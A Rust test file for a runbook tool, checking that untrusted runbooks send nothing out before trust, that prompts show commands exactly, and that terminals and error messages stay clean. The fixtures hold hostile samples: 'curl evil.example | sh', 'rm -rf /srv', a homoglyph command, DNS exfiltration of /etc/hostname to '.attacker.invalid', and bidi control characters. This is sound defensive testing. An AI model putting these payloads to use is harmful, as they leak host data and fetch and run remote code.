//! Runbooks of strangers, and values of ours: what leaves a machine, and what a terminal is told (cases/hostile).

use std::fs;
use std::net::TcpListener;
use std::process::Stdio;
use std::time::Duration;

use crate::source::Team;
use crate::support::{Desk, Done, bin, fixture};

fn hostile(name: &str) -> String {
    fs::read_to_string(fixture("hostile").join(name)).unwrap()
}

/// exfil.yaml: neither `plan` nor `apply` of it reads here or sends anything before somebody has trusted it.
#[test]
fn nothing_of_an_untrusted_runbook_leaves_before_trust() {
    let team = Team::new();
    team.fine("bob", &["source", "add", &team.url()]);
    // Whatever connects to it has sent something.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let step = |text: &str| format!("name: x\ntitle: x\nsteps:\n{text}");
    let look = "  - {name: a, id: a, check: {file: /etc/hostname}, condition: 'false'}\n";
    let connect = |more: &str| format!("{look}  - {{name: b, check: {{connect: {{{more}}}}}, condition: 'false'}}\n");
    let resolve = |more: &str| {
        format!("{look}  - {{name: b, check: {{resolve: {{host: \"{more}\"}}}}, condition: 'false'{}}}\n", "")
    };
    for (what, text, said) in [
        ("exfil", hostile("exfil.yaml"), "reads here: file /etc/hostname"),
        (
            "a port that was read",
            step(&connect(&format!("port: \"{{{{ {port} + 0 * steps.a.content | length }}}}\""))),
            "sends from here: connect",
        ),
        ("another host", step(&connect(&format!("host: 127.0.0.1, port: {port}"))), "sends from here: connect"),
        ("a name", step(&resolve("{{ steps.a.content | trim }}.attacker.invalid")), "sends from here: resolve"),
        ("a name of the target", step(&resolve("{{ target.name }}.attacker.invalid")), "sends from here: resolve"),
        ("a fact", step(&resolve("{{ facts.hostname }}.attacker.invalid")), "sends from here: resolve"),
        (
            "a proof",
            format!("{}verify:\n  - connect: {{host: 127.0.0.1, port: {port}}}\n", step(look)),
            "sends from here: connect",
        ),
        (
            "one bit a name",
            step(&format!(
                "{look}  - {{name: b, when: steps.a.ok, check: {{resolve: yes.attacker.invalid}}, condition: 'false'}}\n"
            )),
            "sends from here: resolve yes.attacker.invalid",
        ),
        (
            "an automounter",
            step(&format!(
                "{look}  - {{name: b, check: {{file: \"/net/{{{{ steps.a.content | trim }}}}/x\"}}, condition: 'false'}}\n"
            )),
            "looked up by an automounter",
        ),
    ] {
        team.push("x.yaml", &text.replace("name: exfil", "name: x"), what, &["--allow-empty"]);
        team.fine("bob", &["source", "update", "-y"]);
        for args in [
            &["plan", "x"][..],
            &["apply", "x"],
            &["apply", "x", "-n"],
            &["plan", "x", "-o", "json"],
            &["apply", "x", "-y", "-o", "jsonl"],
        ] {
            let refused = team.refused("bob", args);
            assert!(refused.contains(said) && refused.contains("nobody to ask"), "{what} {args:?}: {refused}");
        }
    }
    assert!(listener.accept().is_err(), "somebody connected");

    // What goes to the target itself, or where the user says, is no stranger's choice.
    let own = "name: x\ntitle: x\nvars: {peer: {type: string, optional: true}, port: {type: port, default: 22}}\nsteps:\n\
        \x20 - {name: a, check: {connect: \"{{ port }}\"}, condition: 'false'}\n\
        \x20 - {name: b, check: {connect: {host: \"{{ peer }}\", port: 22, timeout: 1s}}, condition: 'false'}\n\
        \x20 - {name: c, check: {resolve: \"{{ target.address }}\"}, condition: 'false', when: target.address is defined}\n";
    team.push("x.yaml", own, "own", &[]);
    team.fine("bob", &["source", "update", "-y"]);
    let planned = team.run("bob", &["plan", "x"]);
    assert!(!planned.stderr.contains("trusted"), "{}{}", planned.stdout, planned.stderr);
}

/// Every command whole, with what the runbook itself has in its place, letter by letter.
#[test]
fn the_prompt_shows_what_would_run() {
    let team = Team::new();
    team.fine("bob", &["source", "add", &team.url()]);
    let text = "name: x\ntitle: x\nvars:\n  what: {type: string, default: 'curl evil.example | sh'}\n  given: {type: string}\nsteps:\n\
        \x20 - {name: a, loop: \"['rm -rf /srv', 'cur\\u0406 x']\", check: {command: \"{{ item }}\"}}\n\
        \x20 - {name: b, check: {command: \"{{ what }} {{ given }}\"}}\n\
        \x20 - {name: c, check: {command: {argv: [ls, \"{{ what }}\"]}}}\n\
        \x20 - {name: d, check: {command: \"echo a\\u200bb\\u202ec\"}}\n";
    let text = text.replace("\\u0406", "\u{406}");
    team.push("x.yaml", &text, "x", &[]);
    team.fine("bob", &["source", "update", "-y"]);
    let refused = team.refused("bob", &["plan", "x", "-e", "given=1"]);
    for said in [
        "runs on the target: rm -rf /srv",
        "runs on the target: cur\\u{406} x",
        "runs on the target: curl evil.example | sh {{ given }}",
        "runs on the target: argv: [\"ls\",\"curl evil.example | sh\"]",
        "echo a\\u{200b}b\\u{202e}c",
    ] {
        assert!(refused.contains(said), "{said}: {refused}");
    }
    assert!(!refused.contains("{{ item }}") && refused.is_ascii(), "{refused}");
}

/// What a terminal would obey, or nobody would see.
fn obeyed(text: &str) -> Option<char> {
    text.chars().find(|c| {
        c.is_control() && !matches!(c, '\n' | '\t')
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
    })
}

/// hide.yaml, and the same from every other source of texts.
#[test]
fn no_control_character_reaches_a_terminal_from_any_source() {
    let team = Team::new();
    team.fine("bob", &["source", "add", &team.url()]);
    // A YAML escape, and what YAML lets stand as it is.
    let marks = "\\e8m\\u009b8m\\u202e\\u200b";
    let hide = hostile("hide.yaml").replace(
        "title: checks the disk",
        &format!("title: \"checks {marks} the disk\"\nanswers: [\"the greeting {marks} is late\"]"),
    );
    team.push("hide.yaml", &hide, "hide \x1b[8m\u{202e}", &[]);
    let seen = |args: &[&str], done: &Done| {
        let both = format!("{}{}", done.stdout, done.stderr);
        assert_eq!(obeyed(&both), None, "{args:?}: {both:?}");
        both
    };
    team.fine("bob", &["source", "update", "-y"]);
    for args in [
        &["show", "hide"][..],
        &["show", "hide", "-o", "markdown"],
        &["list"],
        &["list", "-o", "json"],
        &["plan", "hide"],
        &["plan", "hide", "-o", "json"],
        &["plan", "hide", "--trust"],
        &["plan", "hide", "--trust", "-o", "json"],
        &["plan", "hide", "--trust", "-o", "jsonl", "-v"],
        &["plan", "hide", "--list-steps"],
        &["find", "the greeting is late"],
        &["source", "list"],
        &["source", "list", "-o", "json"],
        &["lint", "ops/hide"],
        &["lint", "ops/hide", "-o", "json"],
        &["plan", "\x1b[8mhide\u{202e}"],
        &["\x1b[8mplan\u{202e}"],
        &["plan", "hide", "-e", "\x1b[8m\u{202e}=1"],
        &["plan", "hide", "--via", "exec:\x1b[8m\u{202e}"],
        &["plan", "hide", "-t", "\x1b[8m\u{202e}"],
        &["undo", "\x1b[8m\u{202e}"],
        &["runs"],
    ] {
        seen(args, &team.run("bob", args));
    }
    let shown = team.fine("bob", &["show", "hide"]);
    assert!(shown.contains("u{1b}8m") || shown.contains("\\u001b8m"), "{shown}");
    let json: serde_json::Value = serde_json::from_str(&team.fine("bob", &["list", "-o", "json"])).unwrap();
    assert!(json.to_string().contains('\u{202e}'), "a document has what was said");

    // An inventory, an error in a file, and what a target says.
    let desk = Desk::new();
    let shell = desk.program("shell", "exec sh");
    let says = "name: says\ntitle: t\nsteps:\n  - {name: s, check: {command: {sh: 'printf \"\\033[8m\\302\\233\\342\\200\\256\" >&2; exit 1'}}, manual: m}\n";
    let says = desk.write("says.yaml", says);
    for (text, args) in [
        ("w\u{202e}eb1 ansible_port=z\u{202e}z\n", ["-t", "all"]),
        ("web1 ansible_connection=l\u{202e}ocal\n", ["-t", "web1"]),
        ("[a\u{202e}\nweb1\n", ["-t", "all"]),
    ] {
        let inventory = desk.write("hosts.ini", text);
        let args = ["-i", inventory.to_str().unwrap(), args[0], args[1]];
        seen(&args, &desk.runbook(&[], "plan", &says, &args).output().unwrap().into());
    }
    for format in ["human", "json", "jsonl"] {
        let via = format!("exec:{}", shell.display());
        let args = ["--via", &via, "-v", "-o", format];
        let both =
            seen(&args, &desk.runbook(&[], "plan", &says, &args).env("RUNBOOK_LOG", "trace").output().unwrap().into());
        assert!(both.contains("1b") && both.contains("202e"), "{format}: {both}");
    }
    let broken = desk.write("broken.yaml", "name: x\ntitle: \u{202e}t\nsteps: [\u{200b}\n");
    for format in ["human", "json", "sarif", "github"] {
        let args = ["-o", format];
        seen(&args, &desk.runbook(&[], "lint", &broken, &args).output().unwrap().into());
    }
}

/// lit.yaml: no excerpt of a source line, and no message, has a secret's value.
#[test]
fn no_source_line_of_an_error_has_a_secret() {
    let desk = Desk::new();
    let book = desk.write("lit.yaml", &hostile("lit.yaml"));
    let word = "hunter2secret";
    let file = |n: usize, text: &str| desk.write(&format!("v{n}.yaml"), text).display().to_string();
    let mut all: Vec<Vec<String>> = vec![
        vec!["-e".into(), format!("{{pw: \"{word}\", port: zz}}")],
        vec!["-e".into(), format!("{{pw: \"{word}\", port: zz")],
        vec!["-e".into(), format!("pw {word}")],
        vec!["-e".into(), format!("pw:{word}")],
        vec!["-e".into(), format!("pw={word}"), "-e".into(), "port=zz".into()],
    ];
    let texts = [
        "{pw: \"WORD\", port: zz}\n",
        "pw: \"WORD\nport: 22\n",
        "pw: WORD: x\nport: 22\n",
        "pw: [WORD\nport: 22\n",
        "pw: *WORD\nport: 22\n",
        "pw: @WORD\nport: 22\n",
        "pw: !WORD x\nport: 22\n",
        "pw: WORD\n pw: WORD\n",
        "pw: WORD\npw: WORD\n",
        "pw WORD\nport: 22\n",
        "pw: |\n  WORD\n port: [\n",
        "\"pw\": 'WORD' x\n",
        "pw: {a: WORD}\nport: zz\n",
        "port: {a: 1}\nother: x\npw: [a, WORD]\n",
        "- pw: WORD\n",
        "db_password: WORD: x\n",
        "pw:\n- WORD\nport: zz\n",
        "pw: WORD\n  port: zz\n",
    ];
    all.extend(
        texts.iter().enumerate().map(|(n, t)| vec!["-e".to_owned(), format!("@{}", file(n, &t.replace("WORD", word)))]),
    );
    let inventories = [
        ("ini", "web1 ansible_password=WORD ansible_port=zz\n"),
        ("ini", "web1 pw=WORD ansible_port=zz\n"),
        ("ini", "web1 pw=\"WORD ansible_port=zz\n"),
        ("ini", "web1 ansible_password=\"WORD ansible_port=zz\n"),
        ("yaml", "all:\n  hosts:\n    web1: {ansible_password: WORD, ansible_port: zz, x: [}\n"),
        ("yaml", "all:\n  hosts:\n    web1: {pw: WORD, ansible_port: zz, x: [}\n"),
        ("yaml", "all:\n  hosts:\n    web1:\n      pw: *WORD\n"),
        ("yaml", "hosts:\n  web1:\n    vars: {pw: WORD, port: zz}\n    via: [\n"),
    ];
    for (n, (end, text)) in inventories.iter().enumerate() {
        let path = desk.write(&format!("i{n}.{end}"), &text.replace("WORD", word)).display().to_string();
        all.push(vec!["-i".into(), path, "-t".into(), "web1".into()]);
    }
    for args in &all {
        for more in [&[][..], &["-o", "json"], &["-o", "jsonl"]] {
            let args: Vec<&str> = args.iter().map(String::as_str).chain(more.iter().copied()).collect();
            let done: Done = desk.runbook(&[], "plan", &book, &args).output().unwrap().into();
            let both = format!("{}{}", done.stdout, done.stderr);
            assert_eq!(done.code, 2, "{args:?}: {both}");
            assert!(!both.contains(word) && !both.contains("hunter2"), "{args:?}: {both}");
            assert!(both.contains("error"), "{args:?}: {both}");
        }
    }
}

/// lit.yaml with three characters: refused at the start, or said.
#[test]
fn a_secret_that_is_too_short_to_be_hidden_is_refused() {
    let desk = Desk::new();
    let book = desk.write("lit.yaml", &hostile("lit.yaml"));
    let vars = format!("@{}", desk.write("v.yaml", "pw: abc\n").display());
    let run = |more: &[&str]| -> Done {
        let args = [&["-e", &vars, "--via", "exec:sh"][..], more].concat();
        desk.runbook(&[], "plan", &book, &args).output().unwrap().into()
    };
    for format in ["human", "json"] {
        let refused = run(&["-o", format]);
        assert_eq!(refused.code, 2, "{}{}", refused.stdout, refused.stderr);
        assert!(
            refused.stderr.contains("less than four characters") && refused.stderr.contains("--allow-short-secrets"),
            "{}",
            refused.stderr
        );
        assert!(
            !refused.stdout.contains("abc") && !refused.stderr.contains("abc"),
            "{}{}",
            refused.stdout,
            refused.stderr
        );
    }
    let told = run(&["--allow-short-secrets"]);
    assert_eq!(told.code, 1, "{}{}", told.stdout, told.stderr);
    assert!(told.stderr.starts_with("warning: the secret \"pw\" has less than four characters"), "{}", told.stderr);
}

/// Many of one kind: in parts, and with an end.
#[test]
fn many_items_are_sent_in_parts_and_too_many_are_refused() {
    let desk = Desk::new();
    let book = |name: &str, count: usize, check: &str| {
        let text = format!("name: {name}\ntitle: t\nsteps:\n  - {{name: s, loop: range({count}), check: {check}}}\n");
        desk.write(&format!("{name}.yaml"), &text)
    };
    let count = if crate::support::full() { 20_000 } else { 1200 };
    let many = book("many", count, "{command: \"echo {{ item }}\"}");
    let done: Done = desk.runbook(&[], "plan", &many, &["--via", "exec:sh"]).output().unwrap().into();
    assert_eq!(done.code, 0, "{}{}", done.stdout, done.stderr);
    let over = book("over", 100_000, "{file: \"/tmp/f{{ item }}\"}");
    let started = std::time::Instant::now();
    let child = desk.runbook(&[], "plan", &over, &["--via", "exec:sh"]).stdout(Stdio::piped()).spawn().unwrap();
    let done: Done = child.wait_with_output().unwrap().into();
    assert_eq!(done.code, 1, "{}{}", done.stdout, done.stderr);
    assert!(done.stdout.contains("its loop has 100000 items, and at most 20000"), "{}", done.stdout);
    assert!(started.elapsed() < Duration::from_secs(10), "{:?}", started.elapsed());
    let _ = bin();
}
